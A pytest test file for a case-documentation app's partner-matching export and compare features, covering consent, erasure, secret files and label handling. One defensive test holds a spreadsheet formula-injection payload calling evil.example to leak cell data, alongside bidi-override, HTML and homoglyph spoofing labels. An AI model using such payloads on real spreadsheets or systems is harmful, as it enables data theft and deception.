    refused = own.post("/cases/", data={"csrf_token": csrf_from(form), "partner": "yes"})
    text = refused.get_data(as_text=True)
    # the role alone stands in the way: 403, as for anything else this role may not do
    assert refused.status_code == 403 and "Only lawyers can list" in text
    assert marked["reference"] not in text
    answer = listed({"partner": True}, bearer(app, documenter))
    assert answer.status_code == 403
    assert answer.get_json()["error"]["code"] == "forbidden"
    assert answer.get_json()["error"]["fields"] == {
        "partner": ["Only lawyers can list the cases partner organisations also document."]
    }
    # the refusal is listed with every other problem of the query, not after they are mended
    both = listed({"partner": True, "status": "vanished"}, bearer(app, documenter))
    assert both.status_code == 422
    assert set(both.get_json()["error"]["fields"]) == {"partner", "status"}
    page_answer = own.post(
        "/cases/", data={"csrf_token": csrf_from(form), "partner": "yes", "status": "vanished"}
    )
    page = page_answer.get_data(as_text=True)
    assert page_answer.status_code == 422
    assert "Only lawyers can list" in page and "Choose one of the listed values" in page

    withdrawn = client.post(
        f"/api/v1/cases/{marked['id']}/consent",
        json={"scope": "partner_matching", "granted": False, "date": "2026-01-01"},
        headers=bearer(app, documenter),
    )
    assert withdrawn.status_code == 200, withdrawn.get_json()
    assert listed({"partner": True}).get_json()["total"] == 0
    assert listed({"partner": True, "q": marked["reference"]}).get_json()["total"] == 0


@pytest.mark.parametrize(
    ("data", "mode", "message"),
    [
        (SECRET, 0o644, "readable by other users"),
        (SECRET, 0o640, "readable by other users"),
        (b"too short\n", 0o600, "at least 32"),
        (b"0" * 32, 0o600, "repeats too few characters"),
        (b"ab" * 32, 0o600, "repeats too few characters"),
    ],
)
def test_weak_secret_files_are_refused(
    app: Flask, client: FlaskClient, tmp_path: Path, data: bytes, mode: int, message: str
) -> None:
    _cases(app, client)
    secret = _secret_file(tmp_path, data, mode)
    out = _invoke(
        app, "partners", "export", "-o", str(tmp_path / "x.json"), "--secret-file", str(secret)
    )
    assert out.exit_code != 0 and message in out.output
    assert not (tmp_path / "x.json").exists()


def test_files_of_another_secret_or_schema_are_refused(app: Flask, tmp_path: Path) -> None:
    ours = _partner_file(tmp_path / "a.json", [(PERSON, "aleppo")], "A")
    theirs = _partner_file(tmp_path / "b.json", [(PERSON, "aleppo")], "B")
    _partner_file(tmp_path / "c.json", [(PERSON, "idlib")], "C")
    doc = json.loads(theirs.read_text())
    doc["fingerprint"] = Encoder(SECRET[::-1]).fingerprint
    theirs.write_text(json.dumps(doc))
    out = _invoke(app, "partners", "compare", str(ours), str(theirs))
    assert out.exit_code != 0 and "different secret" in out.output
    doc["schema"] = {**SCHEMA, "id": "someone-else-1"}
    theirs.write_text(json.dumps(doc))
    out = _invoke(app, "partners", "compare", str(ours), str(theirs))
    assert out.exit_code != 0 and "different schema" in out.output
    out = _invoke(app, "partners", "compare", str(ours), str(tmp_path / "c.json"))
    assert out.exit_code == 0 and "not an export of this casebook" in out.output


# -- the consent scope ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "header",
    [
        "consent.partner_matching",
        "consent to partner matching",
        "Consent Partner matching",
        "موافقة المطابقة مع الشركاء",
        "موافقة المطابقة المشفرة مع منظمات شريكة",
    ],
)
def test_import_columns_take_the_partner_matching_consent(app: Flask, header: str) -> None:
    from casebook.audit.services import Actor
    from casebook.cases.models import Case
    from casebook.imports.services import import_file

    headers = ["الاسم الأول", "الكنية", "consent.documentation", "consent.documentation_date"]
    headers += [header, "consent.partner_matching_date"]
    row = ["أحمد", "الحلبي", "نعم", "2024-05-01", "نعم", "2024-05-02"]
    data = (",".join(headers) + "\n" + ",".join(row) + "\n").encode()
    with app.extensions["casebook.db"].sessionmaker() as s, s.begin():
        result = import_file(s, Actor.cli(), data, "cases.csv", created_by=None)
    assert result.imported == 1, result
    with app.extensions["casebook.db"].sessionmaker() as s:
        case = s.scalars(select(Case)).one()
        assert (case.consent or {})["partner_matching"]["granted"] is True


def test_case_form_offers_the_partner_matching_consent(app: Flask, client: FlaskClient) -> None:
    login(client, make_user(app, "documenter"))
    assert "Partner matching" in client.get("/cases/new").get_data(as_text=True)
    arabic = app.test_client()
    login(arabic, make_user(app, "documenter", language="ar"))
    assert "المطابقة المشفرة مع منظمات شريكة" in arabic.get("/cases/new").get_data(as_text=True)


def test_rejected_cases_are_never_exported(app: Flask, client: FlaskClient, tmp_path: Path) -> None:
    """The one consenting case rejected, nothing is left to export: the command says so and
    writes no file (compare would refuse an empty one)."""
    made, _ = _cases(app, client)
    h = bearer(app, make_user(app, "lawyer"))
    resp = client.post(
        f"/api/v1/cases/{made['consenting']['id']}/review",
        json={"verification": "rejected", "note": "not a disappearance"},
        headers=h,
    )
    assert resp.status_code == 200, resp.get_json()
    out = _invoke(
        app,
        "partners",
        "export",
        "-o",
        str(tmp_path / "o.json"),
        "--secret-file",
        str(_secret_file(tmp_path)),
    )
    # nothing left to export: said, and no file of no records for a partner to be refused
    assert out.exit_code == 1, out.output
    assert "no case can be exported: 2 without consent to partner matching" in out.output
    assert "nothing was written" in out.output and not (tmp_path / "o.json").exists()
    with app.extensions["casebook.db"].sessionmaker() as s:
        assert not s.scalars(select(AuditEntry).where(AuditEntry.action == "partners.export")).all()


def test_erasing_a_case_drops_its_partner_rows(
    app: Flask, client: FlaskClient, tmp_path: Path
) -> None:
    """Erasure reaches partner matching too (through the case_erased signal): the exported
    record's tag and the "also documented by" mark go with the case, in the same request."""
    from casebook.partners.models import PartnerRecord

    made, _documenter = _cases(app, client)
    secret = _secret_file(tmp_path)
    ours = tmp_path / "ours.json"
    assert (
        _invoke(app, "partners", "export", "-o", str(ours), "--secret-file", str(secret)).exit_code
        == 0
    )
    theirs = _partner_file(tmp_path / "theirs.json", [(PERSON, "aleppo")], label="Partner Org")
    assert _invoke(app, "partners", "compare", str(ours), str(theirs)).exit_code == 0
    case = made["consenting"]
    with app.extensions["casebook.db"].sessionmaker() as s:
        tagged = s.scalars(select(PartnerRecord.case_id)).all()
        marked = s.scalars(select(PartnerMark.case_id)).all()
    assert [str(c) for c in tagged] == [case["id"]] and [str(c) for c in marked] == [case["id"]]

    lawyer = bearer(app, make_user(app, "lawyer"))
    erased = client.post(
        f"/api/v1/cases/{case['id']}/erase",
        json={"confirm": case["reference"]},
        headers=fresh_code(app, lawyer),
    )
    assert erased.status_code == 200, erased.get_json()
    with app.extensions["casebook.db"].sessionmaker() as s:
        assert s.scalars(select(PartnerRecord)).all() == []
        assert s.scalars(select(PartnerMark)).all() == []


def test_a_file_given_twice_a_copy_or_another_export_of_ours_is_refused(
    app: Flask, client: FlaskClient, tmp_path: Path
) -> None:
    """Our export compared with itself, with a copy under another export id, or with another
    export of ours (last month's file picked by mistake) would match every record with itself
    and mark every case "also documented": refused, nothing marked."""
    _cases(app, client)
    ours, again = tmp_path / "ours.json", tmp_path / "again.json"
    secret = _secret_file(tmp_path)
    for path in (ours, again):
        out = _invoke(
            app, "partners", "export", "-o", str(path), "--secret-file", str(secret), "--label", "A"
        )
        assert out.exit_code == 0, out.output
    doc = json.loads(ours.read_text())
    doc["export"] = "00000000-0000-4000-8000-000000000001"
    doc["label"] = "Partner"
    copy = tmp_path / "partner.json"
    copy.write_text(json.dumps(doc))
    doc = json.loads(again.read_text())
    doc["export"] = "00000000-0000-4000-8000-000000000002"  # a new id: its records still tell
    unnamed = tmp_path / "unnamed.json"
    unnamed.write_text(json.dumps(doc))
    theirs = _partner_file(tmp_path / "theirs.json", [(PERSON, "aleppo")], "B")
    # A partner's long list with one record of ours pasted in at its end.
    doc = json.loads(theirs.read_text())
    rng = random.Random(5)
    doc["records"] += [
        {"id": rng.randbytes(16).hex(), "clk": base64.b64encode(rng.randbytes(256)).decode()}
        for _ in range(1500)
    ]
    doc["records"].append(json.loads(again.read_text())["records"][-1])
    doc["count"] = len(doc["records"])
    pasted = tmp_path / "pasted.json"
    pasted.write_text(json.dumps(doc))
    _new_process(app)
    refusals = [
        ((ours, ours), "ours.json is given twice"),
        ((ours, copy), "partner.json is the same export as ours.json"),
        ((ours, theirs, copy), "partner.json is the same export as ours.json"),
        ((ours, again), "again.json is, or holds records of, an export of this casebook"),
        ((ours, theirs, unnamed), "unnamed.json is, or holds records of, an export"),
        ((theirs, again), "again.json is, or holds records of, an export"),
        ((ours, pasted), "pasted.json is, or holds records of, an export of this casebook"),
    ]
    for args, message in refusals:
        out = _invoke(app, "partners", "compare", *map(str, args))
        assert out.exit_code != 0 and message in out.output, out.output
        assert "Traceback" not in out.output
    with app.extensions["casebook.db"].sessionmaker() as s:
        assert s.scalars(select(PartnerMark)).all() == []
        # Every refusal is in the audit log, as a failure saying why in a few words.
        entries = s.scalars(
            select(AuditEntry)
            .where(AuditEntry.action == "partners.compare")
            .order_by(AuditEntry.seq)
        ).all()
    assert [e.outcome for e in entries] == ["failure"] * len(refusals)
    reasons = [json.loads(e.details)["refused"] for e in entries]
    assert reasons[:3] == ["list_given_twice"] * 3
    assert reasons[3:] == ["our_export_as_partner"] * 4
    lists = [json.loads(e.details)["lists"] for e in entries]
    assert lists == [len(files) for files, _ in refusals]
    assert all("ours.json" not in e.details and "Partner" not in e.details for e in entries)
    out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "json")
    assert out.exit_code == 0, out.output


def test_two_lists_under_one_label_are_refused(
    app: Flask, client: FlaskClient, tmp_path: Path
) -> None:
    """A mark names the list a person is also on by its label: a file relabelled as another
    partner's (or as ours) would put its claims under that name, so the operator is asked
    to tell them apart; once the labels differ, each mark carries its own list's label."""
    made, _ = _cases(app, client)
    ours = tmp_path / "ours.json"
    secret = _secret_file(tmp_path)
    out = _invoke(
        app, "partners", "export", "-o", str(ours), "--secret-file", str(secret), "--label", "Us"
    )
    assert out.exit_code == 0, out.output
    real = _partner_file(tmp_path / "real.json", [(PERSON, "aleppo")], "OrgB")
    other = {**PERSON, "first_name": "سامر"}
    impostor = _partner_file(tmp_path / "impostor.json", [(PERSON, "aleppo"), (other, "homs")], "")
    _new_process(app)
    lookalikes = [
        (" orgb ", "real.json"),
        ("US", "ours.json"),
        ("\u041ergB", "real.json"),  # Cyrillic O
        ("\uff2frgB", "real.json"),  # fullwidth O
        ("Org\u200bB", "real.json"),  # zero-width space
        ("\u200fOrgB\u00ad", "real.json"),  # right-to-left mark, soft hyphen
        ("\ufeffU.S.", "ours.json"),
        ("Org B", "real.json"),
        ("\U0001d40eRGB", "real.json"),  # mathematical bold O
        ("Org\u3164B", "real.json"),  # a Hangul filler, drawn as nothing
        ("\u1d1c\ua731", "ours.json"),  # small capitals
    ]
    for label, first in lookalikes:
        doc = json.loads(impostor.read_text())
        impostor.write_text(json.dumps({**doc, "label": label}))
        out = _invoke(app, "partners", "compare", str(ours), str(impostor), str(real))
        assert out.exit_code != 0, (label, out.output)
        assert f"{first} and impostor.json are labelled alike" in out.output or (
            f"impostor.json and {first} are labelled alike" in out.output
        ), out.output
    with app.extensions["casebook.db"].sessionmaker() as s:
        assert s.scalars(select(PartnerMark)).all() == []
    doc = json.loads(impostor.read_text())
    impostor.write_text(json.dumps({**doc, "label": "OrgH"}))
    out = _invoke(app, "partners", "compare", str(ours), str(impostor), str(real))
    assert out.exit_code == 0, out.output
    with app.extensions["casebook.db"].sessionmaker() as s:
        marks = s.scalars(select(PartnerMark)).all()
        assert {str(m.case_id) for m in marks} == {made["consenting"]["id"]}
        assert sorted((m.body or {})["label"] for m in marks) == ["OrgB", "OrgH"]
    # The same partner export given again next month under another label marks nothing more.
    doc = json.loads(impostor.read_text())
    doc["export"] = "9f1c2b3a-0000-4000-8000-00000000000a"
    impostor.write_text(json.dumps({**doc, "label": "OrgK"}))
    out = _invoke(app, "partners", "compare", str(ours), str(impostor))
    assert out.exit_code == 0 and "1 new mark " in out.output, out.output
    impostor.write_text(json.dumps({**doc, "label": "OrgK December"}))
    out = _invoke(app, "partners", "compare", str(ours), str(impostor))
    assert out.exit_code == 0 and "0 new marks" in out.output, out.output
    for export in (doc["export"].upper(), "{" + doc["export"] + "}", doc["export"] + "0", ""):
        impostor.write_text(json.dumps({**doc, "export": export, "label": "K Jan"}))
        out = _invoke(app, "partners", "compare", str(ours), str(impostor))
        assert out.exit_code != 0 and "export id is missing or not one" in out.output, out.output
    with app.extensions["casebook.db"].sessionmaker() as s:
        assert len(s.scalars(select(PartnerMark)).all()) == 3


def test_record_ids_in_another_form_are_refused(app: Flask, tmp_path: Path) -> None:
    """casebook writes each record id as 32 lowercase hexadecimal digits; an id written
    another way (upper case, dashes, braces, spaces) is an edited file, and would escape the
    lookup that recognises our own records."""
    ours = _partner_file(tmp_path / "ours.json", _people(3), "A")
    theirs = _partner_file(tmp_path / "theirs.json", _people(6)[3:], "B")
    doc = json.loads(theirs.read_text())
    good = doc["records"][0]["id"]
    assert good != good.upper()
    for changed in (
        good.upper(),
        f"{good[:8]}-{good[8:12]}-{good[12:16]}-{good[16:20]}-{good[20:]}",
        "{" + good + "}",
        " " + good,
        good[:-1],
    ):
        edited = {**doc, "records": [{**doc["records"][0], "id": changed}, *doc["records"][1:]]}
        theirs.write_text(json.dumps(edited))
        out = _invoke(app, "partners", "compare", str(ours), str(theirs))
        assert out.exit_code != 0, out.output
        assert "record 1's id is not one casebook writes" in out.output


def test_cases_erased_or_whose_consent_was_withdrawn_since_the_export_are_left_out(
    app: Flask, client: FlaskClient, tmp_path: Path
) -> None:
    """A family that withdraws consent to partner matching after an export, or a case erased
    since, is not compared: its record of the earlier file is left out of the counts and
    gets no mark, and the run says how many were left out."""
    documenter = make_user(app, "documenter")
    h = bearer(app, documenter)
    people = _people(3)
    made = []
    for person, _ in people:
        case = minimal_case(**person)
        case["consent"] = {**case["consent"], "partner_matching": GRANTED}  # type: ignore[dict-item]
        resp = client.post("/api/v1/cases", json=case, headers=h)
        assert resp.status_code == 201, resp.get_json()
        made.append(resp.get_json())
    ours = tmp_path / "ours.json"
    secret = _secret_file(tmp_path)
    out = _invoke(app, "partners", "export", "-o", str(ours), "--secret-file", str(secret))
    assert out.exit_code == 0 and "3 cases exported" in out.output, out.output
    theirs = _partner_file(tmp_path / "theirs.json", people, "B")
    withdrawn = client.post(
        f"/api/v1/cases/{made[0]['id']}/consent",
        json={"scope": "partner_matching", "granted": False, "date": "2026-01-01"},
        headers=h,
    )
    assert withdrawn.status_code == 200, withdrawn.get_json()
    lawyer = bearer(app, make_user(app, "lawyer"))
    erased = client.post(
        f"/api/v1/cases/{made[1]['id']}/erase",
        json={"confirm": made[1]["reference"]},
        headers=fresh_code(app, lawyer),
    )
    assert erased.status_code == 200, erased.get_json()
    _new_process(app)
    out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "json")
    assert out.exit_code == 0, out.output
    assert json.loads(out.stdout.splitlines()[0])["patterns"] == {"11": 1, "10": 0, "01": 2}
    assert "2 records of" in out.output and "left out" in out.output
    assert "1 of our cases is also on another list; 1 new mark for lawyers" in out.output
    with app.extensions["casebook.db"].sessionmaker() as s:
        marks = s.scalars(select(PartnerMark)).all()
    assert [str(m.case_id) for m in marks] == [made[2]["id"]]


def _people(n: int) -> list[tuple[dict[str, Any], str]]:
    """n (up to 20) different men: no two share a first, father's or family name."""
    firsts = [
        "خالد",
        "سامر",
        "رامي",
        "وائل",
        "ماهر",
        "باسل",
        "فادي",
        "نزار",
        "غسان",
        "هيثم",
        "طارق",
        "زياد",
        "جمال",
        "كمال",
        "بشير",
        "منير",
        "رياض",
        "فراس",
        "أيمن",
        "نبيل",
    ]
    families = [
        "الشامي",
        "المصري",
        "الحموي",
        "الإدلبي",
        "الديري",
        "الرقاوي",
        "الدرعاوي",
        "الحوراني",
        "اللاذقاني",
        "الطرطوسي",
        "القامشلي",
        "الحسكاوي",
        "الجولاني",
        "البيروتي",
        "الكردي",
        "الحلواني",
        "النجار",
        "الحداد",
        "الخياط",
        "العطار",
    ]
    return [
        (
            {
                **PERSON,
                "first_name": firsts[i],
                "father_name": firsts[19 - i],
                "family_name": families[i],
                "birth_date": str(1960 + i),
            },
            "homs",
        )
        for i in range(n)
    ]


def test_a_list_copied_from_another_or_edited_is_refused(app: Flask, tmp_path: Path) -> None:
    """A partner's file made by copying another list's records under new ids is said (not
    refused: two organisations that wrote their shared people alike encode them identically);
    records sharing an id, a record count that disagrees with the records, a list without
    records, and a file that is not JSON cannot be counted: each refused with what is wrong."""
    ours = _partner_file(tmp_path / "ours.json", _people(12), "A")
    theirs = _partner_file(tmp_path / "theirs.json", _people(12)[:6] + _people(20)[14:], "B")
    doc = json.loads(ours.read_text())
    doc["label"] = "C"
    doc["export"] = "00000000-0000-4000-8000-0000000000c0"
    for i, record in enumerate(doc["records"]):
        record["id"] = f"{0xC0 + i:032x}"
    (tmp_path / "copied.json").write_text(
        json.dumps({**doc, "records": doc["records"][1:], "count": 11})
    )
    (tmp_path / "twice.json").write_text(
        json.dumps(
            {
                **doc,
                "count": 4,
                "records": [*doc["records"][:3], {**doc["records"][3], "id": f"{0xC0:032x}"}],
            }
        )
    )
    (tmp_path / "cut.json").write_text(json.dumps({**doc, "count": 40}))
    (tmp_path / "empty.json").write_text(json.dumps({**doc, "records": []}))
    (tmp_path / "uncounted.json").write_text(
        json.dumps({k: v for k, v in doc.items() if k != "count"})
    )
    (tmp_path / "huge.json").write_text(json.dumps({**doc, "count": 10**400}))
    out = _invoke(app, "partners", "compare", str(ours), str(theirs), str(tmp_path / "copied.json"))
    assert out.exit_code == 0, out.output
    assert "11 of the 11 records of copied.json encode exactly as records of ours.json" in (
        out.output
    )
    (tmp_path / "nested.json").write_text("[" * 100_000)
    for name, message in [
        ("nested.json", "nested.json: not a partner-matching file (not JSON)"),
        ("twice.json", "twice.json: record 4 has the id of record 1"),
        ("cut.json", "cut.json: says it holds 40 records but holds 12"),
        ("empty.json", "empty.json: holds no records"),
        ("uncounted.json", "uncounted.json: its record count is missing"),
        ("huge.json", "huge.json: its record count is missing or not a number of records"),
    ]:
        out = _invoke(app, "partners", "compare", str(ours), str(theirs), str(tmp_path / name))
        assert out.exit_code != 0 and message in out.output, out.output
    # half the people shared, written alike on both lists: a partner's own list, counted
    out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "json")
    assert out.exit_code == 0, out.output
    body = json.loads(out.stdout.splitlines()[0])
    assert body["patterns"] == {"11": 6, "10": 6, "01": 6} and body["warnings"] == []
    assert "repeat" not in out.stderr and "warning" not in out.stderr
    out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--threshold", "nan")
    assert out.exit_code != 0 and "--threshold" in out.output and "must be a number" in out.output
    # a record given three times under new ids: counted, and said
    doc = json.loads(theirs.read_text())
    extra = [{**doc["records"][0], "id": f"{0xE0 + i:032x}"} for i in range(2)]
    (tmp_path / "thrice.json").write_text(
        json.dumps({**doc, "records": doc["records"] + extra, "count": 14})
    )
    out = _invoke(app, "partners", "compare", str(ours), str(tmp_path / "thrice.json"))
    assert out.exit_code == 0, out.output
    assert "thrice.json: 2 records repeat another record's encoding exactly" in out.output


def test_a_partner_label_cannot_be_a_formula_or_hide_characters(
    app: Flask, client: FlaskClient, tmp_path: Path
) -> None:
    """A partner file's label is someone else's text: the CSV shows it as text, not a formula,
    and neither the output nor lawyers' marks keep its NUL, controls or bidi overrides."""
    _cases(app, client)
    ours = tmp_path / "ours.json"
    out = _invoke(
        app, "partners", "export", "-o", str(ours), "--secret-file", str(_secret_file(tmp_path))
    )
    assert out.exit_code == 0, out.output
    evil = '=HYPERLINK("http://evil.example/?"&A2,"open")\u202eevil\u0000\x1b[2J'
    theirs = _partner_file(tmp_path / "theirs.json", [(PERSON, "aleppo")], evil + "x" * 500)
    out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "csv")
    assert out.exit_code == 0, out.output
    header = out.stdout.splitlines()[0]
    assert header.split(",", 1)[1].startswith("\"'=HYPERLINK(")  # text, not a formula
    for bad in ("\u202e", "\x00", "\x1b"):
        assert bad not in out.stdout
    text = _invoke(app, "partners", "compare", str(ours), str(theirs))
    assert "\t'=HYPERLINK(" in text.stdout and "\u202e" not in text.stdout
    with app.extensions["casebook.db"].sessionmaker() as s:
        (mark,) = s.scalars(select(PartnerMark)).all()
        label = (mark.body or {})["label"]
    assert label.startswith('=HYPERLINK("http://evil.example/?"&A2,"open")evil[2J')
    assert len(label) <= 100 and not any(ord(c) < 32 or c == "\u202e" for c in label)


def test_a_label_that_reads_as_nothing_gives_way_to_the_file_name(
    app: Flask, client: FlaskClient, tmp_path: Path
) -> None:
    """A label of fillers, joiners and dots would show blank in the output and on lawyers'
    marks: the file's name is used instead."""
    _cases(app, client)
    ours = tmp_path / "ours.json"
    out = _invoke(
        app, "partners", "export", "-o", str(ours), "--secret-file", str(_secret_file(tmp_path))
    )
    assert out.exit_code == 0, out.output
    blank = "\u3164\u200b\u2060 . \u0640\u115f"
    theirs = _partner_file(tmp_path / "OrgBlank.json", [(PERSON, "aleppo")], blank)
    out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "csv")
    assert out.exit_code == 0, out.output
    assert "OrgBlank" in out.stdout.splitlines()[0]
    with app.extensions["casebook.db"].sessionmaker() as s:
        (mark,) = s.scalars(select(PartnerMark)).all()
        assert (mark.body or {})["label"] == "OrgBlank"


@pytest.mark.parametrize(
    ("given", "alike"),
    [
        ("منظمة الكرامۃ", "منظمة الكرامة"),
        ("منظمھ الكرامھ", "منظمة الكرامة"),
        ("منظمة ٱلكرامة", "منظمة الكرامة"),
        ("جمعية الهدے", "جمعية الهدى"),
        ("جمعیة الهدی", "جمعية الهدى"),
        ("رابطة الأمل ١", "رابطة الامل 1"),
        ("رابطة الأمل ۱", "رابطه الأمل 1"),
        ("رابـطة الأمَل", "رابطة الأمل"),
        ("Ⲟrg Օne", "Org One"),
    ],
)
def test_arabic_labels_written_with_letters_for_one_another_read_alike(
    given: str, alike: str
) -> None:
    assert label_key(given) == label_key(alike)


@given(
    st.text(alphabet=st.characters(categories=("L", "N", "Zs", "P")), max_size=30),
    st.lists(st.sampled_from(["\u200b", "\u200d", "\u00ad", "\u200f", "\ufeff", " ", "."])),
    st.randoms(use_true_random=False),
)
def test_invisible_characters_case_and_spacing_never_make_labels_differ(
    label: str, inserts: list[str], rng: random.Random
) -> None:
    """Two labels that differ by invisible characters, spaces, dots or case read as one."""
    chars = list(label.swapcase())
    for mark in inserts:
        chars.insert(rng.randint(0, len(chars)), mark)
    assert label_key("".join(chars)) == label_key(label)


@given(st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=12))
def test_labels_of_different_latin_letters_stay_apart(label: str) -> None:
    """Look-alike folding never joins two different Latin names: changing one letter or
    digit changes the key."""
    changed = ("b" if label[0] != "b" else "c") + label[1:]
    assert label_key(label) != label_key(changed)


def test_lists_crowded_with_look_alikes_are_said_to_be_undercounted(
    app: Flask, tmp_path: Path
) -> None:
    """Forty men of the commonest names, born within two years in one governorate, on each
    list, half of them on both: every record has a crowd of look-alikes on the other list,
    and a comparison finds few of the people the lists share. The counts are printed as
    always, with a warning that they are likely low (a list of distinct names is not warned
    of: see the copied-list test)."""
    mothers = ["فاطمة", "خديجة", "مريم", "زينب", "عائشة", "آمنة", "نور", "هدى"]
    grandfathers = ["محمد", "أحمد", "علي", "حسن", "خالد"]
    crowd = [
        (
            {
                **PERSON,
                "first_name": "محمد",
                "father_name": "محمد",
                "grandfather_name": grandfathers[i % 5],
                "family_name": "المحمد",
                "mother_name": mothers[i % 8],
                "birth_date": str(1980 + i % 3),
            },
            "aleppo",
        )
        for i in range(60)
    ]
    ours = _partner_file(tmp_path / "ours.json", crowd[:40], "A")
    theirs = _partner_file(tmp_path / "theirs.json", crowd[20:], "B")  # half of each shared
    out = _invoke(app, "partners", "compare", str(ours), str(theirs), "--format", "json")
    assert out.exit_code == 0, out.output
    assert json.loads(out.stdout.splitlines()[0])["patterns"]  # counted, as always
    warned = [line for line in out.stderr.splitlines() if "look-alikes on another list" in line]
    assert len(warned) == 2, out.stderr
    assert [f"warning: {w}" for w in json.loads(out.stdout.splitlines()[0])["warnings"]] == warned
    assert warned[0].startswith("warning: 100% of the records of ours.json have 10 or more")
    assert "likely low" in warned[0]
    with app.extensions["casebook.db"].sessionmaker() as s:
        entry = s.scalars(select(AuditEntry).where(AuditEntry.action == "partners.compare")).all()[
            -1
        ]
    assert json.loads(entry.details)["warnings"] == 2


def test_an_export_replaces_a_file_privately_and_fails_plainly_where_it_cannot_write(
    app: Flask, client: FlaskClient, tmp_path: Path
) -> None:
    """An export written over a file someone else could read (a partner's file, mode 644)
    replaced it as 644, now holding our encodings; a folder that does not exist ended in a
    Python traceback. The file is replaced by a private one, and a path that cannot be
    written is one clear line, with no export recorded."""
    from casebook.partners.models import PartnerExport

    _cases(app, client)
    secret = _secret_file(tmp_path)
    there = tmp_path / "theirs.pp"
    there.write_text("a partner's file")
    there.chmod(0o644)
    out = _invoke(app, "partners", "export", "-o", str(there), "--secret-file", str(secret))
    assert out.exit_code == 0 and "is replaced" in out.output, out.output
    assert there.stat().st_mode & 0o777 == 0o600
    assert json.loads(there.read_text())["count"] == 1
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]
    with app.extensions["casebook.db"].sessionmaker() as s:
        before = len(s.scalars(select(PartnerExport)).all())
    missing = str(tmp_path / "missing" / "x.pp")
    out = _invoke(app, "partners", "export", "-o", missing, "--secret-file", str(secret))
    assert out.exit_code == 1 and "cannot write there" in out.output, out.output
    assert "Traceback" not in out.output and "nothing was exported" in out.output
    out = _invoke(app, "partners", "export", "-o", str(tmp_path), "--secret-file", str(secret))
    assert out.exit_code == 2 and "is a directory" in out.output, out.output
    with app.extensions["casebook.db"].sessionmaker() as s:
        assert len(s.scalars(select(PartnerExport)).all()) == before


def test_a_mark_shows_its_label_isolated_and_hides_while_consent_is_withdrawn(
    app: Flask, client: FlaskClient, tmp_path: Path
) -> None:
    """A partner's label is its own text, in any script: set apart on the lawyer's page so
    that it cannot reorder what follows. While the family's consent to partner matching is
    withdrawn the mark is not shown (it was kept on the page after a withdrawal)."""
    made, documenter = _cases(app, client)
    ours = tmp_path / "ours.pp"
    secret = _secret_file(tmp_path)
    assert (
        _invoke(app, "partners", "export", "-o", str(ours), "--secret-file", str(secret)).exit_code
        == 0
    )
    theirs = _partner_file(tmp_path / "theirs.pp", [(PERSON, "aleppo")], "منظمة evil <b>X</b>")
    _new_process(app)
    out = _invoke(app, "partners", "compare", str(ours), str(theirs))
    assert out.exit_code == 0 and "1 new mark " in out.output, out.output
    login(client, make_user(app, "lawyer"))
    case_id = made["consenting"]["id"]
    page = client.get(f"/cases/{case_id}").get_data(as_text=True)
    assert '<bdi dir="auto">منظمة evil &lt;b&gt;X&lt;/b&gt;</bdi>' in page
    withdrawn = client.post(
        f"/api/v1/cases/{case_id}/consent",
        json={"scope": "partner_matching", "granted": False, "date": "2026-01-01"},
        headers=bearer(app, documenter),
    )
    assert withdrawn.status_code == 200, withdrawn.get_json()
    page = client.get(f"/cases/{case_id}").get_data(as_text=True)
    assert "منظمة evil" not in page and "Also documented by" not in page
    lawyer = bearer(app, make_user(app, "lawyer"))
    assert client.get(f"/api/v1/cases/{case_id}", headers=lawyer).get_json()["partner_marks"] == []
    # given again, the mark comes back with both dates beside it (it came back without a word)
    today = datetime.now(UTC).date().isoformat()
    again = client.post(
        f"/api/v1/cases/{case_id}/consent",
        json={"scope": "partner_matching", "granted": True, "date": today},
        headers=bearer(app, documenter),
    )
    assert again.status_code == 200, again.get_json()
    page = client.get(f"/cases/{case_id}").get_data(as_text=True)
    assert "منظمة evil" in page
    note = page.split('class="meta mark-regiven">')[1].split("</span>")[0]
    assert "withdrew its consent to partner matching on" in note
    assert "2026-01-01" in note and today in note
    marks = client.get(f"/api/v1/cases/{case_id}", headers=lawyer).get_json()["partner_marks"]
    assert [(m["consent_withdrawn"], m["consent_given_again"]) for m in marks] == [
        ("2026-01-01", today)
    ]
